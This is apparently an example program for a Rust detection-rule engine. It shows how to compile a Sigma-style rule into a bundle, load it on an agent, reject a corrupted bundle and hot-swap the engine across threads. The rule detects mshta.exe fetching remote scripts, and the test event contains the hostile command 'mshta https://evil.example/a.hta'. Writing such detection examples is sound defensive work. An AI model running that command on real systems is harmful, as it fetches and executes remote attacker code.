//! Compile a rule pack once, ship it as a bundle, load it elsewhere, and
//! swap it under running threads.
//!
//! ```sh
//! cargo run -p sigmata --example load_bundle
//! ```
//!
//! On a fleet the two halves run in different places: CI builds the bundle
//! (`sigmata compile -r rules/ -o pack.sgb`, or [`Bundle::to_bytes`] as
//! below), publishes it with its SHA-256 (and a signature), and each agent
//! loads the bytes with [`Bundle::from_bytes`], which refuses anything
//! damaged, of another sigmata version, or built with limits above its own.

use std::sync::{Arc, RwLock};

use sigmata::bundle::Bundle;
use sigmata::{Builder, Config, Engine, MatchSet};

const RULE: &str = r#"
title: Mshta Executes Remote Script
id: 8b8ad0f3-0000-4000-8000-000000000001
logsource: {category: process_creation, product: windows}
detection:
    selection:
        Image|endswith: '\mshta.exe'
        CommandLine|contains: ['http://', 'https://']
    condition: selection
level: high
"#;

fn main() {
    // In CI: compile the pack and write the bundle.
    let (engine, report) = Builder::new().config(Config::new()).add_source("mshta.yml", RULE).build();
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    let bytes = Bundle::new(engine).label("example pack").to_bytes();
    let path = std::env::temp_dir().join(format!("sigmata-example-{}.sgb", std::process::id()));
    std::fs::write(&path, &bytes).expect("the temporary directory is writable");
    println!("wrote {} ({} bytes)", path.display(), bytes.len());

    // On the agent: read the bytes and load them (the I/O is the caller's).
    let bytes = std::fs::read(&path).expect("the bundle was just written");
    let _ = std::fs::remove_file(&path);
    let engine: Engine = match Bundle::from_bytes(&bytes, &Config::new()) {
        Ok(bundle) => bundle.into_parts().0,
        Err(e) => {
            eprintln!("bundle {}: {e}", path.display());
            std::process::exit(2);
        }
    };

    // Hot swap: workers clone the current engine (an `Arc` inside, so a
    // clone is cheap) for each batch; an update replaces it under them.
    // `serve` does the same with the arc-swap crate, which avoids the lock.
    let current = Arc::new(RwLock::new(engine));
    let event = serde_json::json!({
        "Image": r"C:\Windows\System32\mshta.exe",
        "CommandLine": "mshta https://evil.example/a.hta",
    });
    let worker = {
        let current = Arc::clone(&current);
        let event = event.clone();
        std::thread::spawn(move || {
            let engine = current.read().map(|e| e.clone()).unwrap_or_else(|e| e.into_inner().clone());
            let mut cache = engine.create_cache();
            let mut matches = MatchSet::new();
            engine.matches_with(&mut cache, &event, &mut matches);
            matches.iter().map(|id| engine.rule(id).title.clone()).collect::<Vec<_>>()
        })
    };
    println!("matched: {:?}", worker.join().expect("the worker does not panic"));

    // A damaged bundle is refused with a reason, never loaded.
    let mut damaged = bytes.clone();
    let middle = damaged.len() / 2;
    damaged[middle] ^= 0x20;
    match Bundle::from_bytes(&damaged, &Config::new()) {
        Ok(_) => unreachable!("a flipped byte changes the checksum"),
        Err(e) => println!("damaged bundle refused: {e}"),
    }
    // Replacing the engine: new batches see the new pack.
    let (update, _) = Builder::new().build();
    if let Ok(mut slot) = current.write() {
        *slot = update;
    }
    println!("swapped in an engine of {} rules", current.read().map(|e| e.len()).unwrap_or(0));
}
